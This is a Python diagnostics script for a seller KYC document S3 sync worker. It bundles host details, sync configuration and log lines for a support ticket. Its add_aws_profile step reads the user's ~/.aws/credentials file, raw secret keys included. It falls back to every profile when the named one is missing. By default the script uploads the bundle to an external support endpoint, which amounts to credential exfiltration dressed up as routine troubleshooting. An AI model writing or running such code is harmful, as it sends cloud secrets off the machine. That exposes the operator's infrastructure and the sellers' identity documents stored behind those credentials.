#!/usr/bin/env python3
"""Diagnostics bundle for the seller-document S3 sync worker.

When a seller's KYC uploads (passport scans, utility bills, business
registration PDFs) fail to land in the onboarding bucket, the platform
support team asks for a diagnostics bundle. This tool gathers the worker's
local configuration, recent sync log lines and the AWS profile in use, then
uploads the bundle to the support intake so the ticket can be triaged.

Usage:
    seller_doc_sync_diagnostics.py --ticket ONB-4821 [--profile onboarding]
"""

import argparse
import configparser
import json
import logging
import os
import platform
import socket
import sys
import time
from pathlib import Path

import requests

LOG = logging.getLogger("doc-sync-diag")
SUPPORT_INTAKE = "https://support.example.com/api/v1/diagnostics"
SYNC_LOG = Path("logs/doc_sync.log")
SYNC_CONFIG = Path("config/doc_sync.ini")


class DiagnosticsBundle:
    """Collects the pieces support asks for on a failed-sync ticket."""

    def __init__(self, ticket, profile):
        self.ticket = ticket
        self.profile = profile
        self.sections = {}

    def add_host_info(self):
        self.sections["host"] = {
            "hostname": socket.gethostname(),
            "platform": platform.platform(),
            "python": sys.version.split()[0],
            "collected_at": int(time.time()),
        }

    def add_sync_config(self):
        if not SYNC_CONFIG.exists():
            LOG.warning("no sync config at %s", SYNC_CONFIG)
            return
        parser = configparser.ConfigParser()
        parser.read(SYNC_CONFIG)
        self.sections["sync_config"] = {s: dict(parser[s]) for s in parser.sections()}

    def add_recent_log(self, lines=200):
        if not SYNC_LOG.exists():
            LOG.warning("no sync log at %s", SYNC_LOG)
            return
        tail = SYNC_LOG.read_text(errors="replace").splitlines()[-lines:]
        self.sections["recent_log"] = tail

    def add_aws_profile(self):
        """Include the profile the worker authenticates with, so support can
        reproduce the bucket policy evaluation on their side."""
        creds_path = Path.home() / ".aws" / "credentials"
        if not creds_path.exists():
            LOG.warning("no AWS credentials file at %s", creds_path)
            return
        parser = configparser.ConfigParser()
        parser.read(creds_path)
        if self.profile not in parser:
            LOG.warning("profile %s not found; including all profiles", self.profile)
            self.sections["aws_profiles"] = {s: dict(parser[s]) for s in parser.sections()}
            return
        self.sections["aws_profiles"] = {self.profile: dict(parser[self.profile])}

    def to_payload(self):
        return {"ticket": self.ticket, "component": "seller-doc-sync", "bundle": self.sections}


def upload(bundle, retries=3):
    payload = bundle.to_payload()
    for attempt in range(1, retries + 1):
        try:
            resp = requests.post(SUPPORT_INTAKE, json=payload, timeout=20)
            resp.raise_for_status()
            LOG.info("bundle uploaded for %s (attempt %d)", bundle.ticket, attempt)
            return True
        except requests.RequestException as exc:
            LOG.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    return False


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--ticket", required=True, help="support ticket id, e.g. ONB-4821")
    ap.add_argument("--profile", default=os.environ.get("AWS_PROFILE", "onboarding"))
    ap.add_argument("--log-lines", type=int, default=200)
    ap.add_argument("--dry-run", action="store_true", help="print the bundle instead of uploading")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    bundle = DiagnosticsBundle(args.ticket, args.profile)
    bundle.add_host_info()
    bundle.add_sync_config()
    bundle.add_recent_log(args.log_lines)
    bundle.add_aws_profile()

    if args.dry_run:
        print(json.dumps(bundle.to_payload(), indent=2))
        return 0

    if not upload(bundle):
        LOG.error("could not upload diagnostics for %s", args.ticket)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
